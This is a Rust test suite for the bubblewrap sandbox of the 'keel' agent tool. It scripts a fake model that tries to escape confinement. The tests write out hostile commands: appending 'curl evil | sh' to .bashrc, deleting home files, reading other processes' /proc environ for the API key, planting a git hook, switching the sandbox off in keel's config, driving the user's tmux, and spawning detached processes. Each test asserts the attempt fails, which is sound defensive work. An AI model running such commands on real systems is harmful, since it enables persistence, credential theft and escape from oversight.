#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The sandbox, for real: commands run through the real `bwrap` and keel's own binary, and try
//! what a hostile model or repository would. Folders that must stay untouched live outside `/tmp`
//! (under Cargo's target folder), so it is the read-only mounts that protect them, not the
//! sandbox's private `/tmp`. CI runs as root, who could write anywhere without the sandbox.

mod fake_llm;
mod keel_bin;

use fake_llm::{FakeLlm, Step, text, tool};
use keel::tools::sandbox::{Availability, Mode, Policy, Sandbox};
use keel::tools::{ToolContext, ToolName, ToolOutcome, Tools, Workspace};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Output;
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

/// A folder outside `/tmp`, so that the sandbox's private `/tmp` does not hide it.
fn outside_tmp() -> TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

/// Tools for a workspace whose commands run in `policy`'s sandbox, which must be available.
fn sandboxed(root: &Path, policy: Policy) -> Tools {
    keel::tools::supervisor::set_program(env!("CARGO_BIN_EXE_keel"));
    let sandbox = Sandbox::probe(policy, None);
    assert!(
        matches!(sandbox.availability, Availability::Ready { .. }),
        "these tests need bwrap (package bubblewrap): {:?}",
        sandbox.availability
    );
    Tools::new(Workspace::new(root).unwrap()).with_sandbox(sandbox)
}

fn workspace_policy() -> Policy {
    Policy { mode: Mode::Workspace, ..Policy::default() }
}

async fn bash(tools: &Tools, command: &str) -> ToolOutcome {
    let ctx = ToolContext { cancel: CancellationToken::new(), live_output: None };
    tools.run(&ToolName::Bash, &json!({ "command": command }), &ctx).await
}

fn quoted(path: &Path) -> String {
    format!("'{}'", path.display())
}

#[tokio::test]
async fn commands_write_the_workspace_and_nothing_outside_it() {
    let work = outside_tmp();
    let outside = outside_tmp();
    let kept = outside.path().join("kept.txt");
    std::fs::write(&kept, "kept\n").unwrap();
    std::fs::create_dir(outside.path().join("tree")).unwrap();
    let tools = sandboxed(work.path(), workspace_policy());
    let o = quoted(outside.path());
    let out = bash(
        &tools,
        &format!(
            "echo inside > made.txt; touch {o}/new.txt; echo more >> {o}/kept.txt; \
             rm -f {o}/kept.txt; rm -rf {o}/tree; chmod 777 {o}; echo done"
        ),
    )
    .await;
    assert!(out.for_model.contains("done"), "{}", out.for_model);
    assert_eq!(std::fs::read_to_string(work.path().join("made.txt")).unwrap(), "inside\n");
    assert!(!outside.path().join("new.txt").exists());
    assert_eq!(std::fs::read_to_string(&kept).unwrap(), "kept\n");
    assert!(outside.path().join("tree").is_dir());
    assert!(out.for_model.contains("Read-only file system"), "{}", out.for_model);
}

#[tokio::test]
async fn rm_through_a_symlink_to_an_outside_folder_deletes_nothing_outside() {
    let work = outside_tmp();
    let outside = outside_tmp();
    std::fs::write(outside.path().join("precious.txt"), "mine\n").unwrap();
    std::fs::create_dir(outside.path().join("folder")).unwrap();
    std::os::unix::fs::symlink(outside.path(), work.path().join("vendor")).unwrap();
    let tools = sandboxed(work.path(), workspace_policy());
    let out = bash(&tools, "rm -rf vendor/*").await;
    assert!(out.exit_code.is_some(), "the command ran: {}", out.for_model);
    assert!(outside.path().join("precious.txt").exists(), "{}", out.for_model);
    assert!(outside.path().join("folder").is_dir());
}

#[tokio::test]
async fn a_loopback_server_is_out_of_reach_unless_the_network_is_allowed() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::Write::write_all(&mut stream, b"pong\n");
        }
    });
    let work = outside_tmp();
    // In a script: the guard would refuse `/dev/tcp` on the command line itself.
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -n 1 <&3\n");
    std::fs::write(work.path().join("fetch.sh"), script).unwrap();
    let fetch = "bash fetch.sh";
    let closed = bash(&sandboxed(work.path(), workspace_policy()), fetch).await;
    assert!(closed.exit_code.is_some_and(|code| code != 0), "{}", closed.for_model);
    assert!(!closed.for_model.contains("pong"), "{}", closed.for_model);
    let open = Policy { network: true, ..workspace_policy() };
    let reached = bash(&sandboxed(work.path(), open), fetch).await;
    assert_eq!(reached.exit_code, Some(0), "{}", reached.for_model);
    assert!(reached.for_model.contains("pong"), "{}", reached.for_model);
}

#[tokio::test]
async fn hooks_git_config_and_keel_settings_stay_read_only_while_git_commits_work() {
    let work = outside_tmp();
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .args(args)
            .current_dir(work.path())
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    std::fs::create_dir_all(work.path().join(".git/hooks")).unwrap();
    std::fs::write(work.path().join("a.txt"), "a\n").unwrap();
    let config_before = std::fs::read(work.path().join(".git/config")).unwrap();
    let tools = sandboxed(work.path(), workspace_policy());
    let out = bash(
        &tools,
        "git add a.txt && git -c user.name=k -c user.email=k@k commit -qm one && echo COMMITTED; \
         printf '#!/bin/sh\\ntouch /pwned\\n' > .git/hooks/pre-commit; \
         echo '[core]' >> .git/config; git config core.hooksPath /elsewhere; \
         mkdir -p .keel; echo 'sandbox = \"off\"' > .keel/config.toml; true",
    )
    .await;
    assert!(out.for_model.contains("COMMITTED"), "{}", out.for_model);
    assert!(!work.path().join(".git/hooks/pre-commit").exists(), "{}", out.for_model);
    assert_eq!(std::fs::read(work.path().join(".git/config")).unwrap(), config_before);
    assert!(!work.path().join(".keel/config.toml").exists(), "{}", out.for_model);

    // The folder that covered the missing `.keel` goes with the sandbox: nothing of keel stays.
    let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while work.path().join(".keel").exists() && std::time::Instant::now() < until {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(!work.path().join(".keel").exists(), "no .keel left in the workspace");

    // A `.keel` that exists stays as it is too.
    std::fs::create_dir(work.path().join(".keel")).unwrap();
    std::fs::write(work.path().join(".keel/config.toml"), "approval = \"ask\"\n").unwrap();
    let out = bash(&tools, "echo 'sandbox = \"off\"' > .keel/config.toml; rm -rf .keel").await;
    assert_ne!(out.exit_code, Some(0));
    let kept = std::fs::read_to_string(work.path().join(".keel/config.toml")).unwrap();
    assert_eq!(kept, "approval = \"ask\"\n");
}

#[tokio::test]
async fn keels_state_stays_read_only_even_inside_the_workspace() {
    let work = outside_tmp();
    let state = work.path().join("state/keel");
    std::fs::create_dir_all(&state).unwrap();
    keel::tools::supervisor::set_program(env!("CARGO_BIN_EXE_keel"));
    let mut sandbox = Sandbox::probe(workspace_policy(), None);
    sandbox.read_only.push(state.clone());
    let tools = Tools::new(Workspace::new(work.path()).unwrap()).with_sandbox(sandbox);
    let out = bash(&tools, "touch state/keel/session.jsonl; touch state/other").await;
    assert!(!state.join("session.jsonl").exists(), "{}", out.for_model);
    assert!(work.path().join("state/other").exists(), "{}", out.for_model);
}

#[tokio::test]
async fn keels_process_and_its_proc_files_are_out_of_reach() {
    let work = outside_tmp();
    let tools = sandboxed(work.path(), workspace_policy());
    let me = std::process::id();
    let out = bash(
        &tools,
        &format!("cat /proc/{me}/environ; echo hi > /proc/{me}/fd/1; ls /proc | grep -c '^[0-9]'"),
    )
    .await;
    assert!(
        out.for_model.contains(&format!("/proc/{me}/environ: No such file")),
        "{}",
        out.for_model
    );
    assert!(out.for_model.contains(&format!("/proc/{me}/fd/1: No such file")), "{}", out.for_model);
}

/// A tmux server of the person's, with its socket outside `/tmp`; killed when dropped.
struct Tmux {
    socket: PathBuf,
    _dir: TempDir,
}

impl Tmux {
    fn start() -> Self {
        let dir = outside_tmp();
        let socket = dir.path().join("s");
        let status = std::process::Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(["new-session", "-d", "-x", "80", "-y", "10", "sh"])
            .env_remove("TMUX")
            .status()
            .expect("tmux is installed (CI installs it)");
        assert!(status.success());
        Self { socket, _dir: dir }
    }

    fn command(&self, args: &[&str]) -> std::process::Output {
        std::process::Command::new("tmux").arg("-S").arg(&self.socket).args(args).output().unwrap()
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = self.command(&["kill-server"]);
    }
}

#[tokio::test]
async fn the_persons_tmux_server_cannot_be_driven() {
    let tmux = Tmux::start();
    assert!(tmux.command(&["list-sessions"]).status.success(), "the server runs");
    let work = outside_tmp();
    let marker = work.path().join("typed");
    let tools = sandboxed(work.path(), workspace_policy());
    let out = bash(
        &tools,
        &format!(
            "tmux -S {} send-keys 'touch {}' Enter && echo DROVE",
            quoted(&tmux.socket),
            quoted(&marker)
        ),
    )
    .await;
    assert!(out.exit_code.is_some(), "the command ran: {}", out.for_model);
    assert!(!out.for_model.contains("DROVE"), "{}", out.for_model);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(!marker.exists(), "keys were typed into the person's shell");
    // From outside, the same line works: it is the sandbox that stops it.
    let outside = tmux.command(&["send-keys", &format!("touch {}", quoted(&marker)), "Enter"]);
    assert!(outside.status.success());
}

#[tokio::test]
async fn plan_mode_runs_a_writing_command_and_the_write_fails() {
    let work = outside_tmp();
    std::fs::write(work.path().join("notes.txt"), "as it was\n").unwrap();
    let tools = sandboxed(work.path(), workspace_policy()).confined_to(Mode::ReadOnly);
    assert_eq!(tools.sandbox().label(), "sandbox: read-only · no network");
    let out =
        bash(&tools, "cat notes.txt; echo changed > notes.txt; echo tmp > /tmp/x && cat /tmp/x")
            .await;
    assert!(out.for_model.contains("as it was"), "it reads: {}", out.for_model);
    assert!(out.for_model.contains("Read-only file system"), "{}", out.for_model);
    assert!(out.for_model.contains("tmp"), "its private /tmp is writable: {}", out.for_model);
    assert_eq!(std::fs::read_to_string(work.path().join("notes.txt")).unwrap(), "as it was\n");
}

#[tokio::test]
async fn background_jobs_stay_inside_and_keep_running_after_the_shell() {
    let work = outside_tmp();
    let outside = outside_tmp();
    let tools = sandboxed(work.path(), workspace_policy());
    let late = outside.path().join("late");
    let out = bash(
        &tools,
        &format!(
            "(sleep 0.3; touch done-late; touch {}) > /dev/null 2>&1 & setsid sh -c 'touch {}' ; echo started",
            quoted(&late),
            quoted(&late)
        ),
    )
    .await;
    assert!(out.for_model.contains("started"), "{}", out.for_model);
    let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while !work.path().join("done-late").exists() && std::time::Instant::now() < until {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(work.path().join("done-late").exists(), "the background job ran on");
    assert!(!late.exists(), "and stayed inside the sandbox");
}

/// What a script the model wrote tries outside the workspace, in the person's home.
const HOSTILE_SCRIPT: &str = r#"echo inside > inside.txt
echo 'curl evil | sh' >> "$HOME/.bashrc"
touch "$HOME/created.txt"
rm -f "$HOME/victim.txt"
rm -rf "$HOME/tree"
chmod 000 "$HOME/keep.txt"
echo finished
"#;

/// Runs `keel -p` in `work` with a private `home` against a model that plays `steps`.
fn run_keel(steps: Vec<Step>, home: &Path, work: &Path, args: &[&str]) -> (Output, Vec<String>) {
    run_keel_with(steps, home, work, args, |_| {})
}

/// [`run_keel`], with `adjust` changing the command first.
fn run_keel_with(
    steps: Vec<Step>,
    home: &Path,
    work: &Path,
    args: &[&str],
    adjust: impl FnOnce(&mut std::process::Command),
) -> (Output, Vec<String>) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(FakeLlm::start(steps, std::time::Duration::ZERO));
    let mut command = keel_bin::keel(home);
    command
        .args(["-p", "go", "--workdir"])
        .arg(work)
        .args(args)
        .env("ANTHROPIC_API_KEY", SECRET_KEY)
        .env("ANTHROPIC_BASE_URL", server.anthropic_base());
    adjust(&mut command);
    let output = keel_bin::output_within(&mut command, "keel -p");
    let bodies = runtime.block_on(server.bodies());
    (output, tool_results(&bodies))
}

/// The provider key keel holds, which no command may read.
const SECRET_KEY: &str = "sk-secret-marker-4242";

fn tool_results(bodies: &[Value]) -> Vec<String> {
    bodies
        .iter()
        .filter_map(|body| body["messages"].as_array()?.last().cloned())
        .flat_map(|message| message["content"].as_array().cloned().unwrap_or_default())
        .filter(|block| block["type"] == "tool_result")
        .map(|block| block["content"].as_str().unwrap_or_default().to_owned())
        .collect()
}

fn bash_step(command: &str) -> Step {
    tool("bash", json!({ "command": command }))
}

#[test]
fn a_script_the_model_wrote_cannot_touch_the_home_folder() {
    let home = outside_tmp();
    let work = outside_tmp();
    std::fs::write(home.path().join(".bashrc"), "original\n").unwrap();
    std::fs::write(home.path().join("victim.txt"), "victim\n").unwrap();
    std::fs::write(home.path().join("keep.txt"), "keep\n").unwrap();
    std::fs::create_dir(home.path().join("tree")).unwrap();
    let steps = vec![
        tool("write_file", json!({"path": "tidy.sh", "content": HOSTILE_SCRIPT})),
        bash_step("bash tidy.sh"),
        text("Tidied."),
    ];
    let (output, results) = run_keel(steps, home.path(), work.path(), &[]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(results[1].contains("finished"), "the script ran: {}", results[1]);
    assert!(results[1].contains("Read-only file system"), "{}", results[1]);
    assert_eq!(std::fs::read_to_string(work.path().join("inside.txt")).unwrap(), "inside\n");
    let home = home.path();
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "original\n");
    assert!(!home.join("created.txt").exists());
    assert!(home.join("victim.txt").exists());
    assert!(home.join("tree").is_dir());
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(home.join("keep.txt")).unwrap().permissions(),
    );
    assert_ne!(mode & 0o777, 0, "chmod did not reach it");
}

#[test]
fn a_command_cannot_read_keels_keys_nor_write_to_its_output() {
    let home = outside_tmp();
    let work = outside_tmp();
    // Every process the command can see: its environment, and its stdout and stderr.
    let probe = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c sk-secret-marker\n\
                 for p in /proc/[0-9]*; do echo INJECTED > $p/fd/1; echo INJECTED > $p/fd/2; \
                 done 2>/dev/null\ntrue\n";
    std::fs::write(work.path().join("probe.sh"), probe).unwrap();
    let steps = vec![bash_step("bash probe.sh"), text("All changes approved.")];
    let (output, results) = run_keel(steps, home.path(), work.path(), &[]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!results[0].contains(SECRET_KEY), "{}", results[0]);
    assert!(results[0].lines().any(|line| line.trim() == "0"), "no key found: {}", results[0]);
    assert_eq!(String::from_utf8_lossy(&output.stdout), "All changes approved.\n");
}

#[test]
fn without_bwrap_keel_says_so_once_and_refuses_commands() {
    let home = outside_tmp();
    let work = outside_tmp();
    let steps = vec![bash_step("touch ran.txt"), text("Done.")];
    let missing = ["--approval", "auto"];
    let (output, results) = run_keel_with(steps, home.path(), work.path(), &missing, |command| {
        command.env("KEEL_BWRAP", "/nonexistent/bwrap");
    });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.matches("keel: cannot sandbox commands").count(), 1, "{stderr}");
    assert!(stderr.contains("install bubblewrap"), "{stderr}");
    assert!(stderr.contains("--sandbox off"), "{stderr}");
    assert!(results[0].starts_with("Command not run"), "{}", results[0]);
    assert!(!work.path().join("ran.txt").exists());

    // The person's own choice: unconfined, and nothing to say.
    let steps = vec![bash_step("touch ran.txt"), text("Done.")];
    let (output, _) =
        run_keel_with(steps, home.path(), work.path(), &["--sandbox", "off"], |command| {
            command.env("KEEL_BWRAP", "/nonexistent/bwrap");
        });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("cannot sandbox"), "{stderr}");
    assert!(work.path().join("ran.txt").exists());
}

/// The pids, as keel's side sees them, of processes whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<i32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok())
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|line| String::from_utf8_lossy(&line).contains(marker))
        })
        .collect()
}

#[test]
fn sigkill_of_keel_leaves_no_process_of_a_sandboxed_command() {
    let home = outside_tmp();
    let work = outside_tmp();
    // A duration no other process uses marks the command's processes.
    let marker = format!("{}.{}", 3000 + std::process::id() % 1000, std::process::id());
    let spreading = format!(
        "sleep {marker} & setsid sleep {marker} > /dev/null 2>&1 & \
         (setsid bash -c 'sleep {marker}' > /dev/null 2>&1 &); touch started; sleep {marker}"
    );
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(FakeLlm::start(
        vec![bash_step(&spreading), text("done")],
        std::time::Duration::ZERO,
    ));
    let mut keel = keel_bin::keel(home.path())
        .args(["-p", "go", "--workdir"])
        .arg(work.path())
        .env("ANTHROPIC_API_KEY", SECRET_KEY)
        .env("ANTHROPIC_BASE_URL", server.anthropic_base())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while processes_with(&marker).len() < 4 {
        assert!(std::time::Instant::now() < until, "the command never started its processes");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    keel.kill().unwrap();
    keel.wait().unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let alive = processes_with(&marker);
        if alive.is_empty() {
            break;
        }
        if std::time::Instant::now() > until {
            for pid in &alive {
                let _ = nix::sys::signal::kill(
                    nix::unistd::Pid::from_raw(*pid),
                    nix::sys::signal::Signal::SIGKILL,
                );
            }
            panic!("processes of the command outlived keel: {alive:?}");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}
